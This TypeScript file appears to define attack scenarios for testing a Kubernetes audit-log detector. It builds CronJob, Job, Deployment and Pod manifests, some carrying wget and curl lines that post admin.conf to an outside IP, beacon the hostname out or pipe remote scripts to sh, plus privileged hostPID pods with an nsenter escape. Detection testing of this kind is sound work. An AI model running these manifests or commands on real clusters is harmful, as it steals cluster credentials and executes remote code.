import type { Actor, Scenario } from '../types.js';
import { anonymous, compromisedDeveloper, serviceAccountToken } from './actors.js';
import {
  appsWorkload,
  container,
  cronJob,
  hostPathVolume,
  job,
  mount,
  pod,
  shell,
} from './manifests.js';
import { applyClientSide, create } from './steps.js';

/** A token from the shop frontend pod, whose role does not allow creating CronJobs. */
const deniedFrontendToken: Actor = serviceAccountToken({
  namespace: 'shop',
  serviceAccount: 'shop-cart',
  pod: 'shop-cart-66b8d9f4c7-m4vtr',
  node: 'ip-10-0-33-17.eu-west-1.compute.internal',
  podIP: '10.0.34.51',
});

/** Someone allowed to impersonate, acting as kube-system's default service account. */
const impersonatingDeveloper: Actor = {
  ...compromisedDeveloper,
  impersonatedUser: {
    username: 'system:serviceaccount:kube-system:default',
    groups: [
      'system:serviceaccounts',
      'system:serviceaccounts:kube-system',
      'system:authenticated',
    ],
  },
  authorizationReason:
    'RBAC: allowed by ClusterRoleBinding "kube-system-default-admin" of ClusterRole "cluster-admin" to ServiceAccount "default/kube-system"',
};

const base = {
  technique: 'T1053.007',
  kind: 'attack' as const,
  expect: { minSeverity: 'medium' as const },
};

/** Who acts and where: system namespaces, control-plane nodes, anonymous, denied, debug paths. */
export const ACCESS_SCENARIOS: Scenario[] = [
  {
    ...base,
    id: 'kube-system-every-minute-cronjob',
    title: 'Every-minute CronJob in kube-system running an innocuous kubectl',
    description:
      'Nothing in the command is hostile; a person creating a * * * * * CronJob in kube-system is.',
    evasionClass: 'innocuous command, every minute, kube-system',
    steps: [
      create(
        compromisedDeveloper,
        cronJob({ name: 'kube-dns-autoscaler-sync', namespace: 'kube-system' }, '* * * * *', {
          containers: [
            container('sync', 'bitnami/kubectl:1.29.3', {
              command: ['kubectl', 'get', 'nodes', '-o', 'name'],
            }),
          ],
          restartPolicy: 'OnFailure',
        }),
        { followUps: 2 },
      ),
    ],
  },
  {
    ...base,
    id: 'kube-system-cronjob-by-user',
    title: 'Person creates a kube-system CronJob named like an etcd task, beaconing out',
    description:
      'etcd-defrag every six hours: busybox wget to an external host with the hostname in the query.',
    evasionClass: 'system-looking name in kube-system, created by a person',
    steps: [
      create(
        compromisedDeveloper,
        cronJob({ name: 'etcd-defrag', namespace: 'kube-system' }, '17 */6 * * *', {
          containers: [
            container('defrag', 'busybox:1.36', {
              ...shell('wget -q -O /dev/null "http://198.51.100.5/b?h=$(hostname)"'),
            }),
          ],
          restartPolicy: 'OnFailure',
        }),
        { followUps: 2 },
      ),
    ],
  },
  {
    ...base,
    technique: 'T1552.001',
    id: 'control-plane-pinned-job',
    title: 'Job pinned to a control-plane node reading admin.conf',
    description:
      'nodeSelector node-role.kubernetes.io/control-plane and the matching toleration put the pod next to etcd; a read-only /etc/kubernetes mount gives admin.conf, posted out with wget.',
    evasionClass: 'control-plane nodeSelector + toleration',
    steps: [
      create(
        compromisedDeveloper,
        job(
          { name: 'kubeadm-config-backup', namespace: 'kube-system' },
          {
            nodeSelector: { 'node-role.kubernetes.io/control-plane': '' },
            tolerations: [
              {
                key: 'node-role.kubernetes.io/control-plane',
                operator: 'Exists',
                effect: 'NoSchedule',
              },
            ],
            volumes: [hostPathVolume('kubernetes', '/etc/kubernetes', 'Directory')],
            containers: [
              container('backup', 'alpine:3.19', {
                ...shell('wget -q --post-file=/k8s/admin.conf http://203.0.113.47/up -O /dev/null'),
                volumeMounts: [mount('kubernetes', '/k8s', true)],
              }),
            ],
            restartPolicy: 'Never',
          },
        ),
        { followUps: 1 },
      ),
    ],
  },
  {
    ...base,
    technique: 'T1053.007',
    id: 'anonymous-cronjob',
    title: 'Anonymous request creates a CronJob through a misconfigured binding',
    description:
      'curl POSTs a CronJob with no credentials; a ClusterRoleBinding of cluster-admin to system:anonymous lets it through.',
    evasionClass: 'system:anonymous allowed by a bad binding',
    steps: [
      create(
        anonymous,
        cronJob({ name: 'sys-update', namespace: 'default' }, '*/2 * * * *', {
          containers: [
            container('update', 'alpine:3.19', {
              ...shell('wget -qO- http://203.0.113.9/a.sh | sh'),
            }),
          ],
          restartPolicy: 'OnFailure',
        }),
        { followUps: 2 },
      ),
    ],
  },
  {
    ...base,
    expect: { minSeverity: 'low' },
    id: 'denied-cronjob-stolen-token',
    title: 'Stolen pod token tries to create a CronJob and is denied',
    description:
      'RBAC refuses before the body is read: no requestObject and no name, only the URL, the identity (with the pod it came from) and a 403 Status.',
    evasionClass: 'denied attempt (no body)',
    steps: [
      create(
        deniedFrontendToken,
        cronJob({ name: 'cart-sync', namespace: 'shop' }, '*/5 * * * *', {
          containers: [
            container('sync', 'alpine:3.19', { ...shell('wget -qO- http://203.0.113.9/c | sh') }),
          ],
          restartPolicy: 'OnFailure',
        }),
        { responseCode: 403 },
      ),
    ],
  },
  {
    ...base,
    technique: 'T1610',
    id: 'init-container-payload-deployment',
    title: 'Deployment whose init container runs curl | sh before nginx starts',
    description: 'The main container is a plain nginx; the payload hides in initContainers.',
    evasionClass: 'payload in an initContainer',
    steps: [
      applyClientSide(
        compromisedDeveloper,
        appsWorkload(
          'Deployment',
          { name: 'docs-site', namespace: 'web' },
          {
            initContainers: [
              container('fetch-assets', 'curlimages/curl:8.7.1', {
                ...shell('curl -fsSL http://198.51.100.77/init.sh | sh'),
              }),
            ],
            containers: [
              container('nginx', 'nginx:1.25-alpine', { ports: [{ containerPort: 80 }] }),
            ],
          },
          { replicas: 2 },
        ),
        { followUps: 1 },
      ),
    ],
  },
  {
    ...base,
    technique: 'T1611',
    id: 'impersonated-system-sa-privileged-pod',
    title: 'Impersonating kube-system:default to create a privileged host pod',
    description:
      'kubectl --as=system:serviceaccount:kube-system:default: the server authorizes the impersonated identity, and the log keeps both.',
    evasionClass: 'impersonation of a system service account',
    steps: [
      applyClientSide(
        impersonatingDeveloper,
        pod(
          { name: 'kube-system-debug', namespace: 'kube-system' },
          {
            hostPID: true,
            volumes: [hostPathVolume('host', '/')],
            containers: [
              container('debug', 'alpine:3.19', {
                command: ['sleep', 'infinity'],
                securityContext: { privileged: true },
                volumeMounts: [mount('host', '/host')],
              }),
            ],
          },
        ),
      ),
    ],
  },
  {
    ...base,
    technique: 'T1611',
    expect: { minSeverity: 'low' },
    id: 'psa-rejected-privileged-pod',
    title: 'Privileged pod rejected by Pod Security admission',
    description:
      'The namespace enforces baseline: admission reads the body and refuses it with 403. Unlike an RBAC denial, the request body is in the log.',
    evasionClass: 'rejected by admission (body logged)',
    podSecurityEnforce: 'baseline:latest',
    steps: [
      create(
        compromisedDeveloper,
        pod(
          { name: 'pwn', namespace: 'payments' },
          {
            hostPID: true,
            volumes: [hostPathVolume('host', '/')],
            containers: [
              container('pwn', 'alpine:3.19', {
                command: ['nsenter', '-t', '1', '-m', '-u', '-i', '-n', '-p', '--', 'sh'],
                securityContext: { privileged: true },
                volumeMounts: [mount('host', '/host')],
              }),
            ],
          },
        ),
        {
          responseCode: 403,
          admissionError:
            'pods "pwn" is forbidden: violates PodSecurity "baseline:latest": host namespaces (hostPID=true), privileged (container "pwn" must not set securityContext.privileged=true), hostPath volumes (volume "host")',
        },
      ),
    ],
  },
];
